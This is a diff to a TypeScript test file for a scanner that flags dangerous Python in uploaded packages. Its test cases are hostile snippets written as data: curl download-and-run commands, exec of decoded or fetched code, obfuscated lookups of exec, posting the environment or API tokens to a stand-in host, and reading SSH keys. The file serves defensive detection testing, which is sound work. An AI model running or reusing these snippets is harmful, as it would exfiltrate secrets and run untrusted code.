@@ -1,3 +1,4 @@
+import { DangerSearch } from '../find-dangers'
 import { lookAtPython as look } from '../python-for-tests'
 
 const base64 = (text: string) => Buffer.from(text).toString('base64')
@@ -40,6 +41,62 @@ const FLAGGED: [string, string, string][] = [
     'runs-downloads',
   ],
   ['is written so that Python reads something else', '# coding: utf-7\n+AAo-x = 1', 'unusual-encoding'],
+  [
+    'downloads in one function and runs it in another',
+    'from urllib.request import urlopen\ndef get():\n    return urlopen(URL).read()\ndef go():\n    exec(get())',
+    'runs-downloads',
+  ],
+  [
+    'saves with curl and runs it in the same command',
+    'import os\nos.system("curl -so /tmp/a https://x.example/a && sh /tmp/a")',
+    'runs-downloads',
+  ],
+  [
+    'saves with curl and runs it by another command',
+    'import subprocess\nsubprocess.run(["curl", "-o", "a.sh", URL])\nsubprocess.run(["sh", "a.sh"])',
+    'runs-downloads',
+  ],
+  ['runs letters that it computes', 'exec("".join(chr(n) for n in NUMBERS))', 'runs-decoded-code'],
+  ['runs bytes that it changes', 'code = bytes(b ^ 42 for b in BLOB)\nexec(code)', 'runs-decoded-code'],
+  ['runs a text file', 'exec(open("data.txt").read())', 'runs-unread-code'],
+  [
+    'runs a text file by way of names',
+    'from pathlib import Path\ndef go():\n    text = Path("data.bin").read_text()\n    eval(text)',
+    'runs-unread-code',
+  ],
+  ['imports from an archive', 'import sys\nsys.path.insert(0, "vendor/lib.zip")', 'runs-unread-code'],
+  [
+    'imports from an archive by a name',
+    'import os, sys\nlib = os.path.join(HERE, "lib.whl")\nsys.path.append(lib)',
+    'runs-unread-code',
+  ],
+  ['imports by zipimport', 'import zipimport\nzipimport.zipimporter(path)', 'runs-unread-code'],
+  ['puts the name of exec together', 'getattr(__builtins__, "ex" + "ec")(text)', 'hides-names'],
+  ['computes the name of a built-in', 'getattr(__builtins__, name)(text)', 'hides-names'],
+  ['asks for os.system as a text', 'import os\ngetattr(os, "system")("ls")', 'hides-names'],
+  ['takes exec out of the built-ins', '__import__("builtins").__dict__["exec"](text)', 'hides-names'],
+  ['takes any built-in by a computed name', 'vars(__builtins__)[name](text)', 'hides-names'],
+  [
+    'posts the whole environment',
+    'import os, requests\nrequests.post(URL, json=dict(os.environ))',
+    'sends-secrets',
+  ],
+  [
+    'posts a copy of the environment',
+    'import os, httpx\nall = os.environ.copy()\nhttpx.post(URL, json=all)',
+    'sends-secrets',
+  ],
+  [
+    "posts somebody's token to another's server",
+    'import os, requests\nkey = os.environ["HF_TOKEN"]\nrequests.post("https://x.example/a", json={"k": key})',
+    'sends-secrets',
+  ],
+  [
+    "puts somebody's token into an address",
+    'import os\nfrom urllib.request import urlopen\nurlopen("https://x.example/?k=" + os.getenv("OPENAI_API_KEY"))',
+    'sends-secrets',
+  ],
+  ['reads the folder of SSH keys', 'p = os.path.join(home, ".ssh")', 'reads-credentials'],
   ['reads SSH keys', 'open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'reads-credentials'],
   ['reads SSH keys in pieces', 'p = os.path.join(home, ".ssh", "id_ed25519")', 'reads-credentials'],
   ['reads SSH keys with pathlib', 'p = Path.home() / ".ssh" / "id_rsa"', 'reads-credentials'],
@@ -64,4 +121,28 @@ const FLAGGED: [string, string, string][] = [
 test.each(FLAGGED)('a pack that %s is flagged', async (_what, text, rule) => {
   const findings = await look(text)
   expect(findings[0]).toMatchObject({ rule, enforced: true, file: 'nodes.py', snippet: expect.any(String) })
+})
+
+const inFiles = (look: (search: DangerSearch) => void) => {
+  const search = new DangerSearch()
+  look(search)
+  return search.findings.map(({ rule, enforced, file, line }) => ({ rule, enforced, file, line }))
+}
+
+test.each([
+  ['an index', '--index-url http://x.example/simple'],
+  ['a further index', 'torch\n--extra-index-url=http://x.example/simple'],
+  ['a package', 'evil @ http://x.example/evil.whl'],
+  ['a repository', 'evil @ git+http://x.example/evil.git'],
+])('a pack that takes %s without encryption is flagged', (_what, text) => {
+  const line = text.split('\n').length
+  expect(inFiles((search) => search.lookAtRequirements('requirements.txt', text))).toEqual([
+    { rule: 'insecure-requirement', enforced: true, file: 'requirements.txt', line },
+  ])
+})
+
+test('a pack with compiled Python that is imported by itself is flagged', () => {
+  expect(inFiles((search) => search.lookAtName('lib/core.pyc'))).toEqual([
+    { rule: 'compiled-program', enforced: true, file: 'lib/core.pyc', line: undefined },
+  ])
 })
